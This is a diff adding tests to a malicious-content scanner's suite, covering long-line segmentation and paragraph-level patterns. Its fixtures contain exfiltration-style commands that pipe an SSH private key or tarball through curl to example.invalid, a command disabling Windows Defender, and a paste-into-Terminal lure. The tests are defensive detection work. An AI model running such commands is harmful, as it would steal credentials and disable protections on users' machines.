@@ -192,6 +192,24 @@ describe('long lines and paragraphs (hostile padding)', () => {
     expect(techniques(text)).toEqual(['password-archive-executable']);
   });
 
+  it('sees past a segment\'s cut: no finding made by cutting a word, a path or a flag in two', () => {
+    // The long line's segments start every 3,072 characters and are 4,096 long.
+    const at = (offset: number, s: string) => `${'q'.repeat(offset)}${s}${' z'.repeat(3000)}\nsend it: curl -d @x https://example.invalid/u\n`;
+    for (const cut of [3072, 4096, 6144]) {
+      expect(scanMalicious(at(cut - 'cat ~/.ssh/id_rsa'.length, 'cat ~/.ssh/id_rsa.pub | curl -d @- https://example.invalid/u')), `pub ${cut}`).toEqual([]);
+      expect(scanMalicious(at(cut - 'ssh -i '.length, 'ssh -i ~/.ssh/id_rsa deploy@example.invalid | curl -d @- https://example.invalid/u')), `-i ${cut}`).toEqual([]);
+      expect(scanMalicious(at(cut, 'Set-MpPreference -DisableRealtimeMonitoring $true')), `word ${cut}`).toEqual([]);
+    }
+  });
+
+  it('judges a paragraph pattern on the whole paragraph, long lines included', () => {
+    const prose = (s: string) => `${'Some words of an unwrapped paragraph. '.repeat(120)}${s}`;
+    // The archive and the executable are named on a long line; the password on a short one.
+    expect(techniques(`Extract it with password x7Kq.\n${prose('Download tool.zip and run tool.exe.')}\n`)).toEqual(['password-archive-executable']);
+    // A warning on a long line of the paragraph still says this is about an attack.
+    expect(scanMalicious(`Visit the setup page, copy the install command and paste it into your Terminal.\n${prose('Attackers do this; never follow it.')}\n`)).toEqual([]);
+  });
+
   it('looks for the send of a bundled key in the next 40 lines of its paragraph', () => {
     const send = 'curl -F "f=@/tmp/k.tgz" https://example.invalid/u';
     const bundle = 'tar czf /tmp/k.tgz ~/.ssh/id_rsa';
